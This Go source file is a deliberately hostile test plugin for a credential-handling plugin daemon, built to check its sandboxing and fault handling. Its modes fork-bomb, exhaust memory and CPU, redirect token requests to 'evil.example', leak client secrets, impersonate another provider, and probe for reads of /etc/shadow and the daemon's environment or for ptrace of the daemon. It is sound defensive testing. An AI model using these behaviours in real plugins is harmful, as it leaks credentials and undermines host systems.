// Command hostile is a plugin that does what its name says, for tests: what a
// broken or evil one would.
package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"log"
	"net"
	"os"
	"os/exec"
	"os/signal"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/invectd/invectd/plugins/sdk"
)

// base is where its provider answers. A build may set it.
var base = "https://token.example"

func main() {
	provider := sdk.Provider{Definition: sdk.Definition{
		ID: "hostile", Name: "Hostile", TokenURL: base + "/token", AuthorizationURL: base + "/authorize",
	}}
	version := "1"
	switch os.Args[0] {
	case "exits":
		os.Exit(3)
	case "silent":
		select {}
	case "garbage":
		fmt.Println("hello")
		select {}
	case "huge":
		version = strings.Repeat("x", 300<<20)
	case "floods":
		go func() {
			for {
				fmt.Fprintln(os.Stderr, strings.Repeat("y", 10_000))
			}
		}()
	case "spins":
		for range 8 {
			go func() {
				for {
				}
			}()
		}
	case "swells":
		go func() {
			var all [][]byte
			for {
				all = append(all, bytes.Repeat([]byte{1}, 1<<20))
			}
		}()
	case "forks":
		for range 8 {
			go func() {
				for {
					_ = exec.Command("/bin/sleep", "1000").Start()
				}
			}()
		}
	case "ignores":
		signal.Ignore(syscall.SIGTERM, syscall.SIGINT, syscall.SIGHUP)
	case "answers":
		provider.TokenResponse = func(context.Context, *sdk.TokenResponse) error { return nil }
	case "dies":
		provider.TokenRequest = func(context.Context, *sdk.TokenRequest) error { os.Exit(4); return nil }
	case "hangs":
		provider.TokenRequest = func(context.Context, *sdk.TokenRequest) error { select {} }
	case "moves":
		provider.TokenRequest = func(_ context.Context, r *sdk.TokenRequest) error {
			r.HTTP.URL = "https://evil.example/token"
			return nil
		}
	case "tells":
		provider.TokenRequest = func(_ context.Context, r *sdk.TokenRequest) error {
			go func() { // and again, and again
				for {
					fmt.Fprintln(os.Stderr, "the secret is", r.Client.Secret)
					log.Print("the secret is ", r.Client.Secret) // past go-plugin, which took os.Stderr
					time.Sleep(time.Millisecond)
				}
			}()
			return errors.New("the secret is " + r.Client.Secret)
		}
	case "probe":
		version = strings.Join(probe(), "; ")
	case "takes":
		provider.Definition.ID = "google"
	case "plain":
		provider.Definition.TokenURL = "http://token.example/token"
	}
	sdk.Serve(sdk.Plugin{Version: version, Providers: []sdk.Provider{provider}})
}

// probe tries what a plugin must not be able to do, and returns what it could.
func probe() (could []string) {
	try := func(what string, err error) {
		if err == nil {
			could = append(could, what)
		}
	}
	try("fork", exec.Command("/bin/true").Run())
	_, err := net.DialTimeout("tcp", "127.0.0.1:1", time.Second)
	if errors.Is(err, syscall.ECONNREFUSED) {
		err = nil // it got as far as the network
	}
	try("connect over TCP", err)
	socket, err := syscall.Socket(syscall.AF_UNIX, syscall.SOCK_STREAM, 0)
	if err == nil {
		if err = syscall.Connect(socket, &syscall.SockaddrUnix{Name: "/nowhere"}); errors.Is(err, syscall.ENOENT) {
			err = nil
		}
	}
	try("connect to a Unix socket", err)
	_, err = os.ReadDir("/root")
	try("read /root", err)
	_, err = os.ReadFile("/etc/shadow")
	try("read /etc/shadow", err)
	try("write to /tmp", os.WriteFile("/tmp/hostile-was-here", nil, 0o600))
	try("write beside its folder", os.WriteFile("../hostile-was-here", nil, 0o600))
	try("signal the daemon", syscall.Kill(os.Getppid(), 0))
	daemon := uintptr(os.Getppid())
	signalled := func(number uintptr, args ...uintptr) error {
		if _, _, code := syscall.RawSyscall6(number, args[0], args[1], args[2], args[3], 0, 0); code != 0 {
			return code
		}
		return nil
	}
	try("signal a thread of the daemon", signalled(syscall.SYS_TGKILL, daemon, daemon, 0, 0))
	try("limit the daemon", signalled(unix.SYS_PRLIMIT64, daemon, unix.RLIMIT_CORE, uintptr(unsafe.Pointer(&unix.Rlimit{})), 0))
	try("slow the daemon down", syscall.Setpriority(syscall.PRIO_PROCESS, int(daemon), 19))
	try("outlive the daemon", signalled(syscall.SYS_PRCTL, syscall.PR_SET_PDEATHSIG, 0, 0, 0))
	_, err = unix.Socket(unix.AF_UNIX, unix.SOCK_DGRAM, 0)
	try("send datagrams", err)
	pipe, err := os.Open("/dev/null")
	if err == nil {
		_, err = unix.FcntlInt(pipe.Fd(), unix.F_SETOWN, int(daemon))
	}
	try("have the daemon signalled", err)
	try("trace the daemon", syscall.PtraceAttach(os.Getppid()))
	_, err = os.ReadFile(fmt.Sprintf("/proc/%d/environ", os.Getppid()))
	try("read the daemon's environment", err)
	if syscall.Getuid() == 0 {
		could = append(could, "be root")
	}
	for _, entry := range os.Environ() {
		if name, _, _ := strings.Cut(entry, "="); strings.HasPrefix(name, "INVECT_") || name == "CANARY" {
			could = append(could, "see "+name)
		}
	}
	for fd := 4; fd < 64; fd++ { // 3 is its own image
		target, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
		if err == nil && strings.HasPrefix(target, "/") && target != "/dev/null" && !strings.HasPrefix(target, "/sys/fs/cgroup/") { // Go reads its share of the machine there
			could = append(could, "see "+target)
		}
	}
	return could
}
